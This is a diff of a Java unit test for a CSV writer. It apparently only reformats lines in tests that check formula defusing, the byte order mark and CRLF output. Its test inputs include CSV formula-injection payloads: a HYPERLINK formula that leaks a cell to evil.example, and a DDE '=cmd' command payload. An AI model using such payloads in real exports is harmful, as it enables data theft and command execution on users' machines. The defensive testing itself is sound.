@@ -14,7 +14,8 @@ class CsvTest {
 
     @Test
     void formulasAreDefusedWithALeadingApostrophe() {
-        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
+        assertEquals(
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
                 Csv.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
         assertEquals("'=1+1", Csv.cell("=1+1"));
         assertEquals("'+1+1", Csv.cell("+1+1"));
@@ -47,10 +48,10 @@ class CsvTest {
 
     @Test
     void aFileIsUtf8WithAByteOrderMarkAHeaderAndCrlfRows() {
-        Csv csv = Csv.withHeader("subject_ref", "名称", "note").row("顧客-001", "問い合わせ記録", null)
+        Csv csv = Csv.withHeader("subject_ref", "名称", "note")
+                .row("顧客-001", "問い合わせ記録", null)
                 .row(List.of("a,b", "=cmd|' /C calc'!A0", "x"));
-        assertEquals("\uFEFFsubject_ref,名称,note\r\n顧客-001,問い合わせ記録,\r\n\"a,b\",'=cmd|' /C calc'!A0,x\r\n",
-                csv.text());
+        assertEquals("\uFEFFsubject_ref,名称,note\r\n顧客-001,問い合わせ記録,\r\n\"a,b\",'=cmd|' /C calc'!A0,x\r\n", csv.text());
         assertEquals(2, csv.rows());
         byte[] bytes = csv.bytes();
         assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3));
@@ -68,6 +69,7 @@ class CsvTest {
 
     @Test
     void aHeaderIsDefusedAndQuotedLikeAnyRow() {
-        assertEquals("\uFEFF'=title,\"a,b\"\r\n", Csv.withHeader("=title", "a,b").text());
+        assertEquals(
+                "\uFEFF'=title,\"a,b\"\r\n", Csv.withHeader("=title", "a,b").text());
     }
 }
